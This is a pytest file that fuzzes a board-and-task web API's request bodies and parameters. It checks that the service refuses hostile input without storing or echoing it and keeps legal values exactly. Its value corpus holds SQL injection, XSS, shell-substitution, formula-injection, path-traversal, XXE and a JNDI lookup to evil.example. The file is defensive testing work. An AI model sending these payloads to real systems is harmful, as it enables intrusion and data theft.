"""Hostile values in every field of every body and in every parameter: refused, and nothing kept;
or legal, however odd, and then kept exactly.

The fields and parameters come from Swagger, so that a new one is covered by itself. What is legal
is written by hand from the contract, never taken from the code under test.
"""

import gzip
import json
import re
import select
import socket
import time
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from fastapi import FastAPI

from models.enums import Role
from models.tables import User
from tests.conftest import PASSWORD, World
from tests.serving import Server, checkout

JSON = {"Content-Type": "application/json"}
UNKNOWN = "019a3f5e-7c1d-7b1e-9a53-0f2b7f6f1c11"
# Planted in the values; no answer that refuses one may hold either of them.
MARK, DIGITS = "zqmark", "3141592"

TEXTS = {
    "NUL": f"{MARK}\0x",
    "NUL alone": "\0",
    "empty": "",
    "blank": " \u2003\n\t",
    "one character": "x",
    "right to left": f"{MARK}\u202e\u05d0\u0647\u202c",
    "zero width": f"{MARK}\u200b\u200d\ufeff\u2060",
    "combining flood": MARK + "\u0301" * 100,
    "emoji of seven code points": MARK + "\u200d".join("\U0001f468\U0001f469\U0001f467\U0001f466"),
    "noncharacters": f"{MARK}\uffff\U0010ffff\ufdd0",
    "control characters": f"{MARK}\x01\x1b[31m\x7f\x85",
    "line breaks": f"{MARK}\r\nSet-Cookie: session=x\r\n\r\n",
    "decomposed": f"{MARK}e\u0301\u212b\ufb03",
    "HTML": f"<script>alert('{MARK}')</script>",
    "HTML attribute": f'"><img src=x onerror="{MARK}()">',
    "HTML entities": f"&lt;{MARK}&#0;&amp;",
    "SQL": f"'; DROP TABLE users; --{MARK}",
    "SQL condition": f"{MARK}' OR '1'='1",
    "SQL pattern": f"%_{MARK}\\",
    "SQL parameters": f"$1 :x %(y)s ? {MARK}",
    "template": f"{{{{7*7}}}}${{7*7}}<%= 7*7 %>#{{{MARK}}}",
    "format string": f"%s%n%x {{0.__class__}} {MARK}",
    "lookup": f"${{jndi:ldap://evil.example/{MARK}}}",
    "path": f"../../../../etc/{MARK}%00",
    "Windows path": f"..\\..\\{MARK}\\CON",
    "two dots": "..",
    "shell": f"$(touch {MARK}) `{MARK}` | & ;",
    "formula": f"=cmd|' /C calc'!A0 {MARK}",
    "JSON": f'{{"{MARK}": 1}}',
    "null in quotes": "null",
    "true in quotes": "true",
    "NaN in quotes": "NaN",
    "number in quotes": f"{DIGITS}653",
    "one in quotes": "1",
    "one with a plus": "+1",
    "one with a zero": "01",
    "one with blanks": " 1 ",
    "one with an underscore": "1_0",
    "one with a fraction": "1.0",
    "one in Arabic": "\u0661",
    "one in full width": "\uff11",
    "255 characters": f"{MARK}{'x' * 249}",
    "255 astral characters": "\U0001f600" * 255,
    "256 characters": f"{MARK}{'x' * 250}",
    "10,000 characters": f"{MARK}{'x' * 9994}",
    "10,001 characters": f"{MARK}{'x' * 9995}",
    # Ids, all of nobody.
    "id": UNKNOWN,
    "id in upper case": UNKNOWN.upper(),
    "id in braces": f"{{{UNKNOWN}}}",
    "id as a URN": f"urn:uuid:{UNKNOWN}",
    "id without hyphens": UNKNOWN.replace("-", ""),
    "id of 31 digits": UNKNOWN[:-1],
    "id of 33 digits": f"{UNKNOWN}1",
    "id with a blank": f"{UNKNOWN} ",
    "id with a line break": f"{UNKNOWN}\n",
    "id with NUL": f"{UNKNOWN}\0",
    "id in full width": UNKNOWN.replace("019", "\uff10\uff11\uff19"),
    "id of zeros": "00000000-0000-0000-0000-000000000000",
    "id of ones": "ffffffff-ffff-ffff-ffff-ffffffffffff",
    # Times.
    "naive time": "2026-05-01T12:00:00",
    "date": "2026-05-01",
    "time of day": "12:00:00Z",
    "leap second": "2026-06-30T23:59:60Z",
    "hour 24": "2026-05-01T24:00:00Z",
    "30 February": "2026-02-30T12:00:00Z",
    "29 February of no leap year": "1900-02-29T12:00:00Z",
    "year 0": "0000-01-01T00:00:00Z",
    "year 1": "0001-01-01T00:00:00Z",
    "year 1 with an offset": "0001-01-01T00:00:00+14:00",
    "year 9999": "9999-12-31T23:59:59.999999Z",
    "year 9999 with an offset": "9999-12-31T23:59:59-01:00",
    "year 10000": "10000-01-01T00:00:00Z",
    "year before 0": "-0001-01-01T00:00:00Z",
    "offset of 45 minutes": "2026-05-01T12:00:00+05:45",
    "offset of zero below": "2026-05-01T12:00:00-00:00",
    "offset of a day": "2026-05-01T12:00:00+24:00",
    "offset of 99 hours": "2026-05-01T12:00:00+99:99",
    "offset without colon": "2026-05-01T12:00:00+0200",
    "offset by name": "2026-05-01T12:00:00 Europe/Warsaw",
    "nanoseconds": "2026-05-01T12:00:00.123456789Z",
    "time in small letters": "2026-05-01t12:00:00z",
    "time with a line break": "2026-05-01T12:00:00Z\n",
    "time in Arabic digits": "٢٠٢٦-05-01T12:00:00Z",
    # Colours, addresses, pictures, roles.
    "colour": "#2f80eD",
    "colour without #": "2f80ed",
    "colour of three digits": "#28e",
    "colour with alpha": "#2f80edff",
    "colour with a line break": "#2f80ed\n",
    "colour with CSS": f"red;{MARK}",
    "e-mail": f"{MARK}@example.com",
    "e-mail with a plus": f"{MARK}+a'b@example.com",
    "e-mail of another script": f"{MARK}жук@почта.example",
    "e-mail without domain": f"{MARK}@",
    "e-mail with two @": f"{MARK}@a@example.com",
    "e-mail with a name": f"A <{MARK}@example.com>",
    "e-mail with a header": f"{MARK}@example.com\nBcc:x@example.com",
    "e-mail with zero width": f"{MARK}\u200b@example.com",
    "https address": f"https://pictures.example/{MARK}.png?a=1&b=%20",
    "http address": f"http://pictures.example/{MARK}",
    "script address": f"javascript:alert('{MARK}')",
    "data address": f"data:text/html,{MARK}",
    "address of no scheme": f"//evil.example/{MARK}",
    "address with a line break": f"https://pictures.example/{MARK}\n",
    "drawn picture": f"/api/avatars/{MARK}.svg",
    "path of another file": f"/api/avatars/../{MARK}.svg",
    "role of a member": "MEMBER",
    "role of a moderator": "MODERATOR",
    "role of the creator": "CREATOR",
    "role in small letters": "member",
    "role with a blank": "MEMBER ",
    "priority": "HIGH",
    "status": "IN_PROGRESS",
}

# Everything else, as it stands in the body.
NUMBERS = {
    "zero": "0",
    "minus zero": "-0",
    "minus zero as a float": "-0.0",
    "zero as a float": "0.0",
    "one": "1",
    "one as a float": "1.0",
    "one with an exponent": "1e0",
    "minus one": "-1",
    "float": f"{DIGITS}.5",
    "large": "2147483647",
    "too large": "2147483648",
    "beyond 64 bits": f"{DIGITS}{'0' * 20}",
    "4,000 digits": DIGITS + "9" * 3993,
    "1e400": "1e400",
    "-1e400": "-1e400",
    "1e-400": "1e-400",
    "a time as a number": f"{DIGITS}653",
}
OTHERS = {
    "null": "null",
    "true": "true",
    "false": "false",
    "array": "[]",
    "array of a text": f'["{MARK}"]',
    "array of null": "[null]",
    "object": "{}",
    "object of a text": f'{{"{MARK}": "{MARK}"}}',
    "object with an operator": f'{{"$ne": "{MARK}"}}',
    "object with duplicate keys": f'{{"a": "{MARK}", "a": 1}}',
    "object with a prototype": f'{{"__proto__": {{"is_admin": true, "{MARK}": 1}}}}',
    "array of arrays": "[" * 150 + "]" * 150,
}
NO_JSON = {
    "lone surrogate": f'"{MARK}\\ud800"',
    "lone surrogate, the second half": f'"{MARK}\\udc00"',
    "surrogates in the wrong order": f'"{MARK}\\udc00\\ud800"',
    "NaN": "NaN",
    "Infinity": "Infinity",
    "-Infinity": "-Infinity",
    "10,000 digits": DIGITS + "9" * 9993,
    "hexadecimal": "0x1F",
    "plus": "+1",
    "leading zero": "01",
    "no digit before the point": ".5",
    "Python's True": "True",
    "single quotes": f"'{MARK}'",
    "line break in a text": f'"{MARK}\n"',
    "bad escape": f'"{MARK}\\x41"',
    "no end": f'"{MARK}',
    "comment": f'1 /* {MARK} */',
    "trailing comma": "[1,]",
    "arrays without end": "[" * 100_000,
    "arrays, 100,000 deep": "[" * 100_000 + "]" * 100_000,
    "objects, 1,000 deep": '{"a":' * 1000 + "1" + "}" * 1000,
    "nothing": "",
}  # fmt: skip

TEXTS_IN_JSON = {name: json.dumps(value, ensure_ascii=False) for name, value in TEXTS.items()}
VALUES = {**TEXTS_IN_JSON, **NUMBERS, **OTHERS, **NO_JSON}


def texts(least: int, most: int) -> set[str]:
    """Those of so many characters, without U+0000."""
    return {name for name, value in TEXTS.items() if least <= len(value) <= most} - {
        "NUL", "NUL alone", "id with NUL",
    }  # fmt: skip


IDS = {
    "id", "id in upper case", "id in braces", "id as a URN", "id without hyphens", "id of zeros",
    "id of ones",
}  # fmt: skip
PASSWORDS = {name for name, value in TEXTS.items() if 8 <= len(value) <= 128}

# What is legal for each kind of field.
LEGAL: dict[str, set[str]] = {
    "title": texts(1, 255) - {"blank"},
    "description": texts(0, 10_000) | {"null"},
    "position": {"zero", "minus zero", "one", "large"},
    "flag": {"true", "false"},
    "colour": {"colour", "null"},
    "time": {
        "null", "year 1", "year 9999", "offset of 45 minutes", "offset of zero below",
        "nanoseconds", "time in small letters",
    },
    "priority": {"priority"},
    "status": {"status"},
    "role": {"role of a member", "role of a moderator", "role of the creator"},
    "role to add": {"role of a member", "role of a moderator"},
    "id": IDS,
    "username": {
        "combining flood", "null in quotes", "true in quotes", "NaN in quotes",
        "number in quotes", "one with an underscore", "one with a fraction",
        "decomposed", "date", "id", "id in upper case", "id without hyphens",
        "id of 31 digits", "id of 33 digits", "id in full width", "id of zeros", "id of ones",
        "role of a member", "role of a moderator", "role of the creator", "role in small letters",
        "priority", "status", "colour without #",
    },
    "e-mail": {"e-mail", "e-mail with a plus", "e-mail of another script"},
    "picture": {"https address", "drawn picture", "null"},
    "password": PASSWORDS,
    "password asked": {name for name, value in TEXTS.items() if len(value) <= 128},
    "name asked": texts(0, 255),
    "name of a member": texts(0, 150),
    "e-mail of a member": texts(0, 255),
}  # fmt: skip

# Which of them are tried where each costs a hash.
DEAR = {
    "NUL", "NUL alone", "empty", "blank", "right to left", "combining flood", "decomposed", "SQL",
    "emoji of seven code points", "control characters", "255 characters", "id", "e-mail",
}  # fmt: skip
HASHED = {"password", "password asked", "name asked"}

# What each field is, and what is sent for it while another one is tried.
FIELDS: dict[str, tuple[str, Any]] = {
    "username": ("username", "newcomer"),
    "email": ("e-mail", "newcomer@example.com"),
    "password": ("password", "a lighthouse at dawn"),
    "current_password": ("password asked", PASSWORD),
    "new_password": ("password", "a lighthouse at dawn"),
    "is_admin": ("flag", False),
    "avatar_url": ("picture", None),
    "title": ("title", "Title"),
    "description": ("description", None),
    "is_public": ("flag", True),
    "color": ("colour", None),
    "position": ("position", 0),
    "due_date": ("time", None),
    "priority": ("priority", "LOW"),
    "status": ("status", "TODO"),
    "is_completed": ("flag", False),
    "role": ("role", "MEMBER"),
    "user_id": ("id", UNKNOWN),
    "board_id": ("id", "{board}"),
    "column_id": ("id", "{column}"),
    "task_id": ("id", "{task}"),
}
ELSEWHERE = {
    ("login_user", "username"): "name asked",
    ("login_user", "password"): "password asked",
    ("add_board_user", "username"): "name of a member",
    ("add_board_user", "email"): "e-mail of a member",
    ("add_board_user", "role"): "role to add",
}
# The one body that needs any of several fields.
WAYS = {"user_id", "username", "email"}

# What a legal value is answered with where it isn't simply kept: nobody has that name or id.
ASKED = {
    ("login_user", "username"): 401,
    ("login_user", "password"): 401,
    ("change_password", "current_password"): 403,
    ("change_password", "new_password"): 204,
    ("reset_password", "new_password"): 204,
    ("add_board_user", "user_id"): 422,
    ("add_board_user", "username"): 422,
    ("add_board_user", "email"): 422,
    ("create_column", "board_id"): 404,
    ("create_task", "column_id"): 404,
    ("update_task", "column_id"): 404,
    ("create_subtask", "task_id"): 404,
}
# What is kept of a legal value where it isn't the value itself.
KEPT: dict[tuple[str, str], Any] = {
    ("time", "offset of 45 minutes"): "2026-05-01T06:15:00Z",
    ("time", "offset of zero below"): "2026-05-01T12:00:00Z",
    ("time", "nanoseconds"): "2026-05-01T12:00:00.123456Z",
    ("time", "time in small letters"): "2026-05-01T12:00:00Z",
    ("picture", "null"): "/api/avatars/newcomer.svg",
}

Operation = tuple[str, str, dict[str, Any]]
Rows = Callable[[], Awaitable[object]]


@pytest.fixture(scope="session")
def document(application: FastAPI) -> dict[str, Any]:
    return application.openapi()


@pytest.fixture(scope="session")
def operations(document: dict[str, Any]) -> list[Operation]:
    """Each operation: its method, path and description."""
    return [
        (method.upper(), path, operation)
        for path, item in document["paths"].items()
        for method, operation in item.items()
    ]


class Sender:
    """An admin who sends what they are told to, to a world with one record of each kind."""

    def __init__(self, world: World, document: dict[str, Any], rows: Rows) -> None:
        self.world = world
        self.document = document
        self.rows = rows
        self.ids: dict[str, str] = {}

    async def prepare(self) -> "Sender":
        self.admin = await self.world.person("root", is_admin=True)
        self.cookie = self.admin.cookies["session"]
        subject = await self.world.person("subject")
        await self.world.user("bystander")
        board = await self.world.board(self.admin.user, members={subject.user: Role.MEMBER})
        column = await self.world.column(board)
        task = await self.world.task(column)
        subtask = await self.world.subtask(task)
        self.ids = {
            "user": subject.id,
            "session": UNKNOWN,
            "board": str(board.id),
            "column": str(column.id),
            "task": str(task.id),
            "subtask": str(subtask.id),
        }
        return self

    def path(self, path: str, **other: str) -> str:
        """The path with the ids of the records, or with others."""
        names = {f"{name}_id": value for name, value in self.ids.items()}
        return path.format(**{"name": "ada", **names, **other})

    def query(self, operation: dict[str, Any], without: str = "") -> dict[str, str]:
        """The query parameters that an operation must have."""
        return {
            parameter["name"]: self.ids[parameter["name"].removesuffix("_id")]
            for parameter in operation.get("parameters", ())
            if parameter["in"] == "query" and parameter["required"]
            if parameter["name"] != without
        }

    def schema(self, operation: dict[str, Any]) -> dict[str, Any]:
        """The schema of an operation's body; an empty one if it takes none."""
        if "requestBody" not in operation:
            return {}
        media = operation["requestBody"]["content"]["application/json"]
        name = media["schema"]["$ref"].rpartition("/")[2]
        found: dict[str, Any] = self.document["components"]["schemas"][name]
        return found

    def body(self, operation: dict[str, Any], without: str = "") -> dict[str, Any]:
        """The least that an operation accepts."""
        needed = {name: FIELDS[name][1] for name in self.schema(operation).get("required", ())}
        if operation["operationId"] == "add_board_user" and without not in WAYS:
            needed["username"] = "bystander"
        needed.pop(without, None)
        return {
            name: value.format(**self.ids) if isinstance(value, str) else value
            for name, value in needed.items()
        }

    async def send(
        self, method: str, path: str, body: str | bytes | None = None, headers: Any = JSON
    ) -> httpx.Response:
        self.admin.cookies.clear()
        self.admin.cookies.set("session", self.cookie)
        if isinstance(body, str):
            body = body.encode()
        headers = headers if body is not None else None
        return await self.admin.request(method, path, content=body, headers=headers)

    async def faults(self, tried: list[tuple[Any, ...]]) -> list[str]:
        """Which of (what, expected status, arguments of `send`) isn't refused, or changes rows."""
        before = await self.rows()
        wrong = []
        for what, status, *arguments in tried:
            response = await self.send(*arguments)
            if complaint := fault(response, status):
                wrong.append(f"{what}: {complaint}")
        if not wrong and await self.rows() != before:
            found = await self.culprits(tried) or [f"one like {tried[0][0]}"]
            wrong += [f"{what}: refused, yet rows changed" for what in found]
        return wrong[:5]  # what follows from a change that wasn't refused says little

    async def culprits(self, tried: list[tuple[Any, ...]]) -> list[Any]:
        """Which of the requests change rows when they are sent once more."""
        before = await self.rows()
        for _, _, *arguments in tried:
            await self.send(*arguments)
        if await self.rows() == before:
            return []
        if len(tried) == 1:
            return [tried[0][0]]
        half = len(tried) // 2
        return await self.culprits(tried[:half]) + await self.culprits(tried[half:])


def fault(response: httpx.Response, status: int) -> str | None:
    """What is wrong with an answer that refuses something, if anything is."""
    if response.status_code != status:
        return f"{response.status_code} instead of {status}: {response.text[:300]}"
    if response.headers["content-type"] != "application/problem+json":
        return f"no problem: {response.headers['content-type']}"
    problem = response.json()
    if problem["status"] != status or not problem["detail"]:
        return f"a strange problem: {response.text[:300]}"
    if status == 422 and not problem["errors"]:
        return "a 422 that says nothing"
    problem.pop("instance")  # the path that was asked for
    told = json.dumps(problem, ensure_ascii=False) + str(response.headers)
    if MARK in told or DIGITS in told:
        return f"the value is echoed: {told[:300]}"
    return None


@pytest.fixture
async def sender(world: World, document: dict[str, Any], rows: Rows) -> Sender:
    return await Sender(world, document, rows).prepare()


def fields(sender: Sender, operations: list[Operation]) -> list[tuple[Operation, str, str]]:
    """Each field of each body, with its kind."""
    return [
        (
            operation,
            field,
            ELSEWHERE.get((operation[2]["operationId"], field)) or FIELDS[field][0],
        )
        for operation in operations
        for field in sender.schema(operation[2]).get("properties", ())
    ]


def filled(body: dict[str, Any], field: str, value: str) -> str:
    """The body as JSON, in which `field` has a value that need not be JSON."""
    text = json.dumps({**body, field: "?"}, ensure_ascii=False)
    return text[: text.rindex('"?"')] + value + "}"


def test_the_corpus_is_large_and_every_name_in_it_is_known() -> None:
    assert len(VALUES) >= 150
    assert len(VALUES) == len(TEXTS) + len(NUMBERS) + len(OTHERS) + len(NO_JSON)
    for kind, legal in LEGAL.items():
        assert legal <= set(VALUES) - set(NO_JSON), kind
        assert legal, kind
    for value in (*TEXTS_IN_JSON.values(), *NUMBERS.values(), *OTHERS.values()):
        json.loads(value)


def test_every_field_and_parameter_has_a_kind(
    document: dict[str, Any], operations: list[Operation]
) -> None:
    """A new one fails here until it is said what is legal for it."""
    bodies = [operation for _, _, operation in operations if "requestBody" in operation]
    assert len(bodies) == 16
    for operation in bodies:
        name = operation["requestBody"]["content"]["application/json"]["schema"]["$ref"]
        schema = document["components"]["schemas"][name.rpartition("/")[2]]
        assert set(schema["properties"]) <= set(FIELDS), operation["operationId"]
    for _, _, operation in operations:
        for parameter in operation.get("parameters", ()):
            assert parameter["name"] in PARAMETERS, operation["operationId"]


async def test_a_hostile_value_in_a_field_is_refused_and_changes_nothing(
    sender: Sender, operations: list[Operation]
) -> None:
    asked = 0
    wrong: list[str] = []
    for (method, path, operation), field, kind in fields(sender, operations):
        body = sender.body(operation, without=field)
        tried = [
            (
                (operation["operationId"], field, name),
                400 if name in NO_JSON else 422,
                method,
                sender.path(path),
                filled(body, field, value),
            )
            for name, value in VALUES.items()
            if name not in LEGAL[kind]
        ]
        asked += len(tried)
        wrong += await sender.faults(tried)
    assert not wrong, "\n".join(wrong)
    assert asked > 4000


async def test_an_odd_but_legal_value_is_kept_exactly(
    sender: Sender, operations: list[Operation]
) -> None:
    wrong: list[str] = []
    for (method, path, operation), field, kind in fields(sender, operations):
        place = (operation["operationId"], field)
        body = sender.body(operation, without=field)
        names = sorted(LEGAL[kind] & DEAR if kind in HASHED else LEGAL[kind])
        assert names
        if ASKED.get(place, 0) >= 400:
            wrong += await sender.faults(
                [
                    ((*place, name), ASKED[place], method, sender.path(path),
                     filled(body, field, VALUES[name]))
                    for name in names
                ]
            )  # fmt: skip
            continue
        for name in names:
            value = json.loads(VALUES[name])
            sent = filled(body, field, VALUES[name])
            response = await sender.send(method, sender.path(path), sent)
            if not response.is_success:
                wrong.append(f"{place} {name}: {response.text[:300]}")
                continue
            location = response.headers.get("location")
            if "password" in field:
                if not await signs_in(sender, json.loads(sent), place[0], value):
                    wrong.append(f"{place} {name}: doesn't sign in")
            else:
                expected = KEPT.get((kind, name), value)
                if kind == "position" and name in ("one", "large"):
                    expected = 1 if method == "POST" else 0  # the end
                stored = await sender.send("GET", location or sender.path(path))
                for record in (response.json(), stored.json()):
                    if record[field] != expected or type(record[field]) is not type(expected):
                        wrong.append(f"{place} {name}: {record[field]!r}")
            if location:
                assert (await sender.send("DELETE", location)).status_code == 204
    assert not wrong, "\n".join(wrong)


WHOSE = {"change_password": "root", "reset_password": "subject"}


async def signs_in(sender: Sender, sent: Any, operation_id: str, password: str) -> bool:
    """Whether a password that was just set signs in. One that was changed is the old one then."""
    username = WHOSE.get(operation_id) or sent["username"]
    login = json.dumps({"username": username, "password": password})
    answer = await sender.send("POST", "/api/auth/login", login)
    if operation_id in WHOSE:
        user = await User.get(username=username)
        await User.filter(id=user.id).update(hashed_password=sender.world.hashed_password)
        if operation_id == "change_password":
            sender.cookie = (await sender.world.sign_in(user)).cookies["session"]
    return answer.status_code == 200


# What is legal for each kind of parameter.
PARAMETERS = {
    **dict.fromkeys(
        ("user_id", "board_id", "column_id", "task_id", "subtask_id", "session_id"), "id"
    ),
    "limit": "limit",
    "cursor": "cursor",
    "name": "name",
}
LEGAL_PARAMETERS = {
    "id": IDS,
    "limit": {"one", "one in quotes"},
    "cursor": set[str](),
    "name": {  # anything that is one part of a path, up to 150 characters
        name
        for name in VALUES
        if name not in {
            "nothing", "empty", "255 characters", "255 astral characters", "256 characters",
            "10,000 characters", "10,001 characters", "4,000 digits", "10,000 digits",
            "array of arrays", "arrays without end", "arrays, 100,000 deep", "objects, 1,000 deep",
        }
    },
}  # fmt: skip
# What only an address can hold, encoded as it stands here.
ENCODED = {"bad UTF-8": "%ff", "overlong NUL": "%c0%80", "half a surrogate": "%ed%a0%80",
           "cut escape": "%", "wrong escape": "%zz", "escaped twice": "%2500"}  # fmt: skip
LONGEST = 20_000  # more than that no client sends; see the floods below


def in_address(name: str) -> str:
    """A value of the corpus as it stands in an address."""
    if name in ENCODED:
        return ENCODED[name]
    text = TEXTS.get(name, VALUES[name])
    # A client takes a bare `..` for the folder above.
    return quote(text, safe="").replace(".", "%2E")


async def test_a_hostile_parameter_is_refused_and_changes_nothing(
    sender: Sender, operations: list[Operation]
) -> None:
    asked = 0
    wrong: list[str] = []
    for method, path, operation in operations:
        body = json.dumps(sender.body(operation)) if sender.schema(operation) else None
        for parameter in operation.get("parameters", ()):
            name, where = parameter["name"], parameter["in"]
            kind = PARAMETERS[name]
            tried: list[tuple[Any, ...]] = []
            for value in (*VALUES, *ENCODED):
                given = in_address(value)
                if len(given) > LONGEST:
                    continue
                if where == "path":
                    address = sender.path(path, **{name: given})
                    query = sender.query(operation)
                else:
                    address, query = sender.path(path), sender.query(operation, without=name)
                    address += f"?{name}={given}"
                if query:
                    address += ("&" if "?" in address else "?") + "&".join(
                        f"{key}={text}" for key, text in query.items()
                    )
                what = (operation["operationId"], name, value)
                status = parameter_status(kind, value)
                if where == "path":
                    status = path_status(path.endswith(f"{{{name}}}"), value) or status
                tried.append((what, status, method, address, body))
            legal = [case for case in tried if case[1] == 200]
            for what, _, *arguments in legal:
                response = await sender.send(*arguments)
                if response.status_code != 200:
                    wrong.append(f"{what}: {response.text[:300]}")
            wrong += await sender.faults([case for case in tried if case[1] != 200])
            asked += len(tried)
    assert not wrong, "\n".join(wrong)
    assert asked > 5000


def parameter_status(kind: str, value: str) -> int:
    """What a value of the corpus is answered with as a parameter."""
    if value in LEGAL_PARAMETERS[kind] or (value in ENCODED and kind == "name"):
        return 404 if kind == "id" else 200
    return 422


def path_status(at_the_end: bool, value: str) -> int | None:
    """404 for a value that makes the path another one, which doesn't exist."""
    text = ENCODED.get(value) or TEXTS.get(value, VALUES.get(value, ""))
    return 404 if not text or "/" in text or (at_the_end and text.endswith("\n")) else None


# What a body can be that isn't JSON in UTF-8; each is made from one that would be accepted.
SPOILT: dict[str, Callable[[bytes], bytes]] = {
    "empty": lambda body: b"",
    "blank": lambda body: b" \n",
    "cut": lambda body: body[:-1],
    "twice": lambda body: body + body,
    "with something behind": lambda body: body + MARK.encode(),
    "with a BOM": lambda body: b"\xef\xbb\xbf" + body,
    "UTF-16": lambda body: body.decode().encode("utf-16"),
    "UTF-16 without BOM": lambda body: body.decode().encode("utf-16-le"),
    "UTF-32": lambda body: body.decode().encode("utf-32"),
    "UTF-7": lambda body: b"+AHs-" + body[1:],
    "Latin-1": lambda body: body[:-1] + b', "\xe9": 1}',
    "overlong": lambda body: body[:-1] + b', "\xc0\xaf": 1}',
    "half a surrogate": lambda body: body[:-1] + b', "\xed\xa0\x80": 1}',
    "binary": lambda body: bytes(range(256)),
    "a picture": lambda body: b"\x89PNG\r\n\x1a\n" + body,
    "NULs": lambda body: b"\0" * 1000,
    "gzip": gzip.compress,
    "a form": lambda body: f"title={MARK}".encode(),
    "XML": lambda body: f"<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///{MARK}'>]>".encode(),
    "a comment": lambda body: b"// " + MARK.encode() + b"\n" + body,
    "a prefix against scripts": lambda body: b")]}'\n" + body,
    "a line for each": lambda body: body + b"\n" + body,
    "a trailing comma": lambda body: body[:-1] + b",}",
    "1,000,000 bytes of blanks": lambda body: b" " * 1_000_000,
}
OTHER_TYPES = [
    "text/plain", "text/json", "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=x", "application/xml", "application/jsonx", "application/json5",
    "application/json-seq", "application/octet-stream", "json", "*/*", "application/*", "",
    "application/json, text/plain", "text/plain; application/json",
]  # fmt: skip
SHAPES = ["[]", "null", "true", "1", '"x"', f'["{MARK}"]', f'{{"{{}}": "{MARK}"}}']


async def test_a_hostile_body_is_refused_by_every_operation_that_takes_one(
    sender: Sender, operations: list[Operation]
) -> None:
    wrong: list[str] = []
    for method, path, operation in operations:
        if not sender.schema(operation):
            continue
        place, address = operation["operationId"], sender.path(path)
        good = json.dumps(sender.body(operation)).encode()
        tried: list[tuple[Any, ...]] = [
            ((place, name), 400, method, address, spoil(good)) for name, spoil in SPOILT.items()
        ]
        tried += [
            ((place, media_type), 415, method, address, good, {"Content-Type": media_type})
            for media_type in OTHER_TYPES
        ]
        tried += [
            ((place, "no type"), 415, method, address, good, {}),
            ((place, "1 MB and a byte"), 413, method, address, good.ljust(1_000_001)),
            ((place, "gzip, and says so"), 400, method, address, gzip.compress(good),
             {**JSON, "Content-Encoding": "gzip"}),
            ((place, "UTF-16, and says so"), 400, method, address, good.decode().encode("utf-16"),
             {"Content-Type": "application/json; charset=utf-16"}),
        ]  # fmt: skip
        tried += [((place, shape), 422, method, address, shape) for shape in SHAPES]
        tried.append(((place, "no body"), 415, method, address, b"", {}))
        wrong += await sender.faults(tried)
    assert not wrong, "\n".join(wrong)


async def test_a_parameter_of_the_type_is_no_hindrance(sender: Sender) -> None:
    """JSON is UTF-8 whatever `charset` says (RFC 8259), and a megabyte is not too much."""
    for media_type in (
        "application/json; charset=utf-8",
        "application/json;charset=latin-1",
        'APPLICATION/JSON; x="y"',
        "application/problem+json",
    ):
        body = '{"title": "żółw"}'
        response = await sender.send("POST", "/api/boards", body, {"Content-Type": media_type})
        assert response.status_code == 201, media_type
        assert response.json()["title"] == "żółw"
    assert (await sender.send("POST", "/api/boards", body.ljust(999_993))).status_code == 201


async def test_of_duplicate_keys_the_one_that_is_checked_is_the_one_that_is_kept(
    sender: Sender,
) -> None:
    last = await sender.send("POST", "/api/boards", '{"title": 5, "title": "the last"}')
    assert (last.status_code, last.json()["title"]) == (201, "the last")
    refused = await sender.send("POST", "/api/boards", '{"title": "the first", "title": 5}')
    assert refused.status_code == 422


async def test_a_body_where_none_is_taken_is_ignored(
    sender: Sender, operations: list[Operation]
) -> None:
    for method, path, operation in operations:
        if sender.schema(operation) or operation["operationId"] in ("logout_user", "end_sessions"):
            continue
        ids = dict.fromkeys((f"{name}_id" for name in sender.ids), UNKNOWN)
        address = sender.path(path, **(ids if method == "DELETE" else {}))
        query = "&".join(f"{key}={value}" for key, value in sender.query(operation).items())
        answers = []
        for body in (None, b"{", b"\xff" * 2000, json.dumps({"id": MARK}).encode()):
            response = await sender.send(method, f"{address}?{query}".rstrip("?"), body)
            answers.append((response.status_code, response.text))
            assert response.status_code == (404 if method == "DELETE" else response.status_code)
            assert response.status_code < 405, operation["operationId"]
        assert len(set(answers)) == 1, operation["operationId"]
    assert (await sender.send("POST", "/api/auth/logout", "{")).status_code == 204


@pytest.mark.parametrize("name", sorted(IDS - {"id of zeros", "id of ones"}))
async def test_an_id_in_another_spelling_is_the_same_id(sender: Sender, name: str) -> None:
    real = sender.ids["board"]
    digits = real.replace("-", "")
    spelled = {
        "id": real,
        "id in upper case": real.upper(),
        "id in braces": f"{{{real}}}",
        "id as a URN": f"urn:uuid:{real}",
        "id without hyphens": digits,
    }[name]
    response = await sender.send("GET", f"/api/boards/{quote(spelled)}")
    assert (response.status_code, response.json()["id"]) == (200, real)
    body = json.dumps({"board_id": spelled, "title": "x"})
    made = await sender.send("POST", "/api/columns", body)
    assert (made.status_code, made.json()["board_id"]) == (201, real)


async def test_an_email_address_is_not_asked_for_without_limit(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """409 tells that it has an account. An admin, who sees all of them, isn't held up."""
    from api.settings import settings

    monkeypatch.setenv("RATE_LIMIT_LOGIN", "2/hour")
    settings.cache_clear()
    ada, bob = await world.person("ada"), await world.user("bob")
    admin = await world.person("root", is_admin=True)
    board = await world.board(ada.user)

    def change(**values: str) -> dict[str, str]:
        return {"username": "ada", "email": "ada@example.com", **values}

    path = f"/api/users/{ada.id}"
    assert (await ada.put(path, json=change(email=bob.email))).status_code == 409
    assert (await ada.put(path, json=change(email="free@example.com"))).status_code == 200
    assert (await ada.put(path, json=change(email=bob.email))).status_code == 429
    members = f"/api/boards/{board.id}/users"
    assert (await ada.post(members, json={"email": bob.email})).status_code == 429
    # One that stays needs no limit, in whatever case it is written.
    assert (await ada.put(path, json=change(email="FREE@example.com"))).status_code == 200
    for number in range(4):
        email = f"{number}@example.com"
        assert (await admin.put(path, json=change(email=email))).status_code == 200


# Floods, against a server as its users start it: a test's client wouldn't let them out.


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    with TemporaryDirectory() as folder:
        server = Server(checkout(Path(folder)))
        with server:
            yield server


@pytest.fixture(scope="module")
def cookie(server: Server) -> str:
    account = {"username": "ada", "email": "ada@example.com", "password": PASSWORD}
    response = server.client().post("/api/auth/register", json=account)
    return f"Cookie: session={response.cookies['session']}"


def head(method: str, path: str, *headers: str) -> bytes:
    lines = [f"{method} {path} HTTP/1.1", "Host: corkboard.test", *headers]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def answer(server: Server, *parts: bytes, pause: float = 0) -> tuple[int, str]:
    """The status and the whole text of what comes back; parts are sent until something does."""
    received = b""
